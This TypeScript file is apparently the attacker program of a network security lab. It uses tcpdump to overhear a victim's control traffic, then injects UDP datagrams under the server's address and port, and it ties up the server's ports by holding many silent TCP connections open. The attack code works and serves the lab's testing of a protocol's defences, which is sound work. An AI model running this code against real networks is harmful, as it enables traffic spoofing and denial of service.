/**
 * The attacker's own program, run inside the attacker host (node --import tsx agent.ts). It
 * imports nothing of the project: it is copied into the host alone. It does what an attacker
 * on the network does, with the tools every lab host has: tcpdump to overhear a victim's
 * control lines and the first datagram of its download, a UDP socket bound to the server's
 * address (which the host has taken as its own) to inject datagrams, TCP connections to hold
 * the server's places. The lab talks to it in JSON lines: commands on stdin, events on stdout.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import dgram from 'node:dgram';
import net from 'node:net';
import readline from 'node:readline';

export type AgentCommand =
  | { cmd: 'watch'; victim: string; server: string; iface: string }
  | { cmd: 'arm'; when: 'proceed' | 'server-port'; datagrams: string[]; copies: number }
  | { cmd: 'flood'; server: string; ports: number[]; perPort: number; settleMs: number }
  | { cmd: 'release' };

export type AgentEvent =
  | { event: 'watching' }
  | { event: 'udp-port'; port: number; t: number }
  | { event: 'server-port'; port: number; t: number }
  | { event: 'proceed'; t: number }
  | { event: 'injected'; datagrams: number; t: number; to: string; from: string }
  | { event: 'flood'; attempted: number; held: number; told: Record<string, number>; failed: number }
  | { event: 'held-closed'; line: string | null; held: number }
  | { event: 'error'; message: string };

const emit = (e: AgentEvent): void => void process.stdout.write(`${JSON.stringify(e)}\n`);
const now = () => Date.now() / 1000;

interface Learnt {
  victim: string;
  server: string;
  udpPort?: number;
  serverPort?: number;
}

let learnt: Learnt | undefined;
const armed: Extract<AgentCommand, { cmd: 'arm' }>[] = [];
const dumps: ChildProcess[] = [];
const held = new Set<net.Socket>();

function watch(c: Extract<AgentCommand, { cmd: 'watch' }>): void {
  learnt = { victim: c.victim, server: c.server };
  let ready = 0;
  const listening = () => ++ready === 2 && emit({ event: 'watching' });
  // The victim's control lines, as ASCII: -A prints a packet's headers and payload, and a line of
  // the protocol ends in `\n`, so each one ends a printed line. The header line gives the length,
  // which tells a bare `proceed` from a chat message ending in that word.
  tcpdump(
    ['-A', '-i', c.iface, `tcp and src host ${c.victim} and dst host ${c.server}`],
    (() => {
      let payload = -1;
      return (line: string) => {
        const header = / IP \S+ > \S+: Flags .* length (\d+)$/.exec(line);
        if (header) return void (payload = Number(header[1]));
        const port = /udp\|(\d{1,5})$/.exec(line);
        if (port && payload === 5 + port[1].length) return onUdpPort(Number(port[1]));
        if (line.endsWith('proceed') && payload === 8) onProceed();
      };
    })(),
    listening,
  );
  // The datagrams to the victim: their header line names the server's source port.
  tcpdump(
    ['-i', c.iface, `udp and src host ${c.server} and dst host ${c.victim}`],
    (line) => {
      const m = / IP (\S+)\.(\d+) > (\S+)\.(\d+): UDP/.exec(line);
      if (!m || !learnt || learnt.serverPort !== undefined || Number(m[4]) !== learnt.udpPort) return;
      learnt.serverPort = Number(m[2]);
      emit({ event: 'server-port', port: learnt.serverPort, t: now() });
      fire('server-port');
    },
    listening,
  );
}

function tcpdump(args: string[], onLine: (line: string) => void, onListening: () => void): void {
  const child = spawn('tcpdump', ['-l', '-n', '--immediate-mode', ...args], { stdio: ['ignore', 'pipe', 'pipe'] });
  dumps.push(child);
  readline.createInterface({ input: child.stdout }).on('line', onLine);
  readline.createInterface({ input: child.stderr }).on('line', (l) => {
    if (l.includes('listening on')) onListening();
    else if (/error|permission|No such device/i.test(l)) emit({ event: 'error', message: `tcpdump: ${l}` });
  });
}

function onUdpPort(port: number): void {
  if (!learnt) return;
  // A new download: its port, and its server port still to be learnt.
  learnt.udpPort = port;
  learnt.serverPort = undefined;
  emit({ event: 'udp-port', port, t: now() });
}

function onProceed(): void {
  emit({ event: 'proceed', t: now() });
  fire('proceed');
}

function fire(trigger: 'proceed' | 'server-port'): void {
  for (const a of [...armed]) {
    if (a.when !== trigger) continue;
    if (!learnt?.udpPort || !learnt.serverPort) continue;
    armed.splice(armed.indexOf(a), 1);
    inject(a, learnt.server, learnt.serverPort, learnt.victim, learnt.udpPort);
  }
}

/** Sends from the server's own address and port: the host holds that address, so no raw socket is needed. */
function inject(a: Extract<AgentCommand, { cmd: 'arm' }>, from: string, fromPort: number, to: string, port: number) {
  const socket = dgram.createSocket({ type: 'udp4', reuseAddr: true });
  socket.on('error', (e) => emit({ event: 'error', message: `inject: ${e.message}` }));
  socket.bind(fromPort, from, () => {
    const datagrams = a.datagrams.map((d) => Buffer.from(d, 'base64'));
    let left = datagrams.length * a.copies;
    for (let copy = 0; copy < a.copies; copy++)
      for (const d of datagrams)
        socket.send(d, port, to, () => {
          if (--left > 0) return;
          emit({
            event: 'injected',
            datagrams: datagrams.length * a.copies,
            t: now(),
            from: `${from}:${fromPort}`,
            to: `${to}:${port}`,
          });
          socket.close();
        });
  });
}

/** Opens `perPort` connections to every port at once and never says a word on them. */
async function flood(c: Extract<AgentCommand, { cmd: 'flood' }>): Promise<void> {
  const told: Record<string, number> = {};
  let failed = 0;
  const attempts = c.ports.flatMap((port) => Array.from({ length: c.perPort }, () => port));
  await Promise.all(
    attempts.map(
      (port) =>
        new Promise<void>((resolve) => {
          const socket = net.connect({ host: c.server, port });
          let first: string | null = null;
          let buffered = '';
          const settle = setTimeout(() => {
            if (!socket.destroyed && first === null) held.add(socket);
            resolve();
          }, c.settleMs);
          socket.on('data', (b) => {
            buffered += b.toString('utf8');
            const end = buffered.indexOf('\n');
            if (end < 0 || first !== null) return;
            first = buffered.slice(0, end);
            if (held.has(socket)) return;
            told[first] = (told[first] ?? 0) + 1;
          });
          socket.on('error', () => {
            if (first === null && !held.has(socket)) failed++;
            clearTimeout(settle);
            resolve();
          });
          socket.on('close', () => {
            if (!held.delete(socket)) return;
            emit({ event: 'held-closed', line: first, held: held.size });
          });
        }),
    ),
  );
  emit({ event: 'flood', attempted: attempts.length, held: held.size, told, failed });
}

function release(): void {
  for (const s of held) s.destroy();
}

function handle(line: string): void {
  let c: AgentCommand;
  try {
    c = JSON.parse(line) as AgentCommand;
  } catch {
    return emit({ event: 'error', message: `not a command: ${line.slice(0, 80)}` });
  }
  if (c.cmd === 'watch') watch(c);
  else if (c.cmd === 'arm') {
    armed.push(c);
    if (c.when === 'server-port') fire('server-port');
  } else if (c.cmd === 'flood') void flood(c);
  else if (c.cmd === 'release') release();
}

readline
  .createInterface({ input: process.stdin })
  .on('line', handle)
  .on('close', () => {
    for (const d of dumps) d.kill('SIGINT');
    release();
    setTimeout(() => process.exit(0), 200);
  });
